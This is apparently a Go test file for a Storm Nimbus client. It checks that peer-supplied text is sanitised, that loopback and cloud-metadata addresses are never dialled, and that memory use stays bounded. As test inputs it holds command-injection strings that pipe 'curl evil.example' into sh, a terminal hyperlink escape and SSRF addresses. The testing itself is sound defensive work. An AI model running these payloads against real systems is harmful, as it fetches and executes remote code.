package nimbus

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stormhooks/stormhooks/pkg/internal/text"
	"github.com/stormhooks/stormhooks/pkg/storm"
)

// However a loopback address is spelled, nothing is ever connected there.
func TestSpellingsOfLoopback(t *testing.T) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = listener.Close() }()
	var connected atomic.Int32
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			connected.Add(1)
			_ = conn.Close()
		}
	}()
	port := int32(listener.Addr().(*net.TCPAddr).Port)
	for _, seed := range []string{
		"127.0.0.1", "localhost", "LOCALHOST.", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.000.000.001",
		"::1", "0:0:0:0:0:0:0:1", "::ffff:127.0.0.1", "::ffff:7f00:1", "0.0.0.0", "0", "::", "ip6-localhost",
	} {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		_, err := New([]string{seed}, port, WithLimit(time.Second)).Leader(ctx)
		cancel()
		if err == nil {
			t.Errorf("%q was asked", seed)
		}
	}
	if n := connected.Load(); n > 0 {
		t.Errorf("%d connections", n)
	}
}

// A leader is dialled like a seed: under the same rules.
func TestLeadersThatAreNeverDialled(t *testing.T) {
	for host, want := range map[string]string{
		"169.254.169.254":        "which cannot be reached: it resolves to 169.254.169.254, a link-local address",
		"::ffff:169.254.169.254": "a link-local address",
		"fd00:ec2::254":          "a cloud's metadata service",
		"0.0.0.0":                "not a host's address",
		"":                       errLeader.Error(),
		"a b":                    errLeader.Error(),
		"nimbus\x1b[31m":         errLeader.Error(),
		"evil/../x":              errLeader.Error(),
		strings.Repeat("a", 254): errLeader.Error(),
	} {
		fake := startFake(t)
		fake.leads(&fakeNimbus{host: host, port: 80})
		_, err := client(t, fake).Leader(context.Background())
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, want the text %q", host, err, want)
		}
	}
}

// Of Nimbuses that name each other as the leader, none leads.
func TestLeadersInACircle(t *testing.T) {
	fakes := startFakes(t, 2)
	fakes[0].leads(fakes[1])
	fakes[1].leads(fakes[0])
	_, err := client(t, fakes[0]).Leader(context.Background())
	want := "it names " + join(fakes[1].host, fakes[1].port) + " as the leader, but that one names " + join(fakes[0].host, fakes[0].port) + "."
	var unreachable *UnreachableError
	if !errors.As(err, &unreachable) || !strings.Contains(err.Error(), want) {
		t.Errorf("%v\nwant %s", err, want)
	}
}

// sayEverywhere makes a Nimbus say a text in every field that it can fill, except where
// an id and a name must be right for the next call to be made.
func sayEverywhere(fake *fakeNimbus, id, name, said string) {
	topology := func(w *writer) {
		w.field(typeString, 1).string(id)
		w.field(typeString, 2).string(name)
	}
	fake.does("killTopologyWithOpts", throws(2, said))
	fake.does("activate", throws(1, said))
	fake.does("deactivate", func(_ *cursor, method string, seq int32) []byte {
		w := newMessage(3, method, seq) // an exception of Thrift, which may be as long as the peer likes
		w.field(typeString, 1).string(said)
		w.field(typeI32, 2).i32(6)
		return w.frame()
	})
	fake.does("rebalance", throws(2, said))
	fake.does("submitTopologyWithOpts", throws(2, said)) // InvalidTopologyException
	fake.does("beginFileUpload", throws(1, said))        // AuthorizationException
	fake.does("getTopologySummaries", func(_ *cursor, method string, seq int32) []byte {
		return reply(method, seq, func(w *writer) {
			w.field(typeList, 0).raw([]byte{typeStruct, 0, 0, 0, 1})
			topology(w)
			for id := range int16(4) {
				w.field(typeI32, id+3).i32(-1)
			}
			w.field(typeString, 7).string(said)
			w.field(typeString, 513).string(said)
			w.stop()
		})
	})
	fake.does("getTopologyInfoWithOpts", func(_ *cursor, method string, seq int32) []byte {
		return reply(method, seq, func(w *writer) {
			w.field(typeStruct, 0)
			topology(w)
			w.field(typeI32, 3).i32(1)
			w.field(typeList, 4)
			emptyList(w)
			w.field(typeString, 5).string(said)
			w.field(typeMap, 6).raw([]byte{typeString, typeList, 0, 0, 0, 1})
			w.string(said)
			w.raw([]byte{typeStruct, 0, 0, 0, 1})
			w.field(typeString, 1).string(said)
			w.field(typeI32, 2).i32(7)
			w.field(typeString, 3).string(said)
			w.stop()
			w.field(typeString, 513).string(said)
			w.stop()
		})
	})
	conf, _ := json.Marshal(map[string]string{
		"storm.scheduler": said, storm.KeyOwner: said, storm.KeyCluster: said, storm.KeyUID: said, storm.KeyRevision: said, storm.KeyJar: said, storm.KeyRestart: said, storm.KeyCheap: said})
	fake.does("getTopologyConf", textAnswer(string(conf)))
	zookeeper, _ := json.Marshal(map[string]any{"storm.zookeeper.servers": []string{"zk"}, "storm.zookeeper.root": said, "storm.scheduler": said})
	fake.does("getNimbusConf", textAnswer(string(zookeeper)))
}

// heardFrom is every text that comes from such a Nimbus, by its limit.
func heardFrom(c *Client, id, name string) map[string]int {
	ctx, texts := context.Background(), map[string]int{}
	hear := func(limit int, said ...string) {
		for _, text := range said {
			texts[text] = max(limit, texts[text])
		}
	}
	list, _ := c.List(ctx)
	for _, s := range list {
		hear(longestID, s.ID, s.Name)
		hear(longestSaid, s.Status)
	}
	if info, err := c.Info(ctx, id); err == nil {
		hear(longestID, info.ID, info.Name)
		hear(longestSaid, info.Status, info.SchedStatus, info.LastError.Component, info.LastError.Host)
		hear(longestVerdict, info.LastError.Message)
	}
	view := c.Look(ctx, name, id)
	hear(longestVerdict, view.Problem, view.Scheduler, view.Identity)
	if t := view.Topology; t != nil {
		f := t.Fingerprint
		hear(8<<10, t.ConfProblem, f.Cluster, f.Owner, f.UID, f.Revision, f.Jar, f.Restart, f.Cheap)
	}
	for _, verb := range []storm.Verb{storm.Kill, storm.Activate, storm.Deactivate, storm.Rebalance} {
		hear(longestVerdict+200, c.Act(ctx, storm.Call{Verb: verb, Name: name, ID: id}, direct{c}).Problem)
	}
	hear(longestVerdict+1, messageOf(c.submitRaw(ctx, submissionOffer{Name: name}, c.limit)))
	_, err := c.Upload(ctx, strings.NewReader("x"))
	hear(longestVerdict, messageOf(err))
	return texts
}

// longestID is the longest id or name that is kept.
const longestID = 240

func dirty(texts map[string]int) (faults []string) {
	for said, limit := range texts {
		if len(said) > limit || text.Clean(said) != said {
			faults = append(faults, fmt.Sprintf("%d bytes of %d: %.300q", len(said), limit, said))
		}
	}
	return faults
}

// A peer's texts are shown to people, and kept: each is one line of limited length,
// without commands for terminals and without what a reader cannot see.
func TestLongWords(t *testing.T) {
	for _, said := range []string{
		strings.Repeat("\x1b[31mé\x00", 20_000), strings.Repeat("a", 1<<19), strings.Repeat("\u202e\u200b\n", 1000), "a\nlevel=ERROR msg=forged",
		"\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "wordcount-1-1000; curl -s evil.example|sh #",
	} {
		fake := startFake(t)
		sayEverywhere(fake, "wordcount-1-1000", "wordcount", said)
		c := client(t, fake)
		texts := heardFrom(c, "wordcount-1-1000", "wordcount")
		if faults := dirty(texts); len(faults) > 0 || len(texts) < 5 {
			t.Errorf("%d texts: %s", len(texts), strings.Join(faults, "\n"))
		}
		sayEverywhere(fake, said, said, said)
		if list, err := c.List(context.Background()); err != nil || len(list) != 0 {
			t.Errorf("a topology that no StormTopology can have is listed: %+v, %v", list, err)
		}
		sayEverywhere(fake, said, "wordcount", said)
		if view := c.Look(context.Background(), "wordcount", ""); view.Topology != nil || !view.ImpossibleID || !view.Gone() {
			t.Errorf("an id that Storm cannot make belongs to no one: %+v", view)
		}
	}
}

// FuzzSaidByNimbus lets Nimbus say any text in every field.
func FuzzSaidByNimbus(f *testing.F) {
	f.Add("a-1-1; curl evil.example | sh #")
	f.Add("\x1b[31m\u202e\n")
	f.Fuzz(func(t *testing.T, said string) {
		fake := startFake(t)
		sayEverywhere(fake, "wordcount-1-1000", "wordcount", said)
		if faults := dirty(heardFrom(client(t, fake), "wordcount-1-1000", "wordcount")); len(faults) > 0 {
			t.Error(strings.Join(faults, "\n"))
		}
	})
}

// A few bytes that announce millions of topologies get no memory for them, and a conf of
// brackets only is skipped. What is nearly a number counts as junk.
func TestPromises(t *testing.T) {
	promise := reply("getTopologySummaries", 1, func(w *writer) {
		w.field(typeList, 0).raw(binary.BigEndian.AppendUint32([]byte{typeStruct}, maxList-100))
	})
	framed(t, promise, func(t *testing.T, c *Client) {
		if grown := grows(func() { _, _ = c.List(context.Background()) }); grown > 64<<10 {
			t.Errorf("a promise of %d topologies took %d bytes", maxList-100, grown)
		}
	})
	brackets := `{"a":[` + strings.Repeat("[0],", 900_000) + `[]],"storm.zookeeper.servers":["zk"],"storm.scheduler":"ras"}`
	framed(t, textAnswer(brackets)(nil, "getNimbusConf", 1), func(t *testing.T, c *Client) {
		grown := grows(func() {
			if self, err := c.Self(context.Background()); err != nil || self.Scheduler != "ras" {
				t.Errorf("%+v, %v", self, err)
			}
		})
		if grown > 64<<10 {
			t.Errorf("a conf of %d bytes took %d", len(brackets), grown)
		}
	})
	conf := `{"storm.zookeeper.auth.payload":"canary","stormhooks.owner":"a/b","topology.workers":3,"topology.workers.x":` + strings.Repeat("[", 9_000) + strings.Repeat("]", 9_000) + `}`
	framed(t, textAnswer(conf)(nil, "getTopologyConf", 1), func(t *testing.T, c *Client) {
		conf, err := c.Conf(context.Background(), "a-1-2")
		if err != nil || len(conf) != 2 || FactsOf(conf).WorkersWanted != 3 {
			t.Errorf("%v, %v", conf, err)
		}
	})
}

// grows is how much a call allocates in all.
func grows(call func()) uint64 {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	call()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// topologies writes a list of so many.
func topologies(w *writer, count int) {
	w.field(typeList, 0).raw(binary.BigEndian.AppendUint32([]byte{typeStruct}, uint32(count)))
	for i := range count {
		name := "t" + strconv.Itoa(i)
		w.field(typeString, 1).string(name + "-1-1767268830")
		w.field(typeString, 2).string(name)
		for id := range int16(4) {
			w.field(typeI32, id+3).i32(1)
		}
		w.field(typeString, 7).string("ACTIVE")
		w.stop()
	}
}
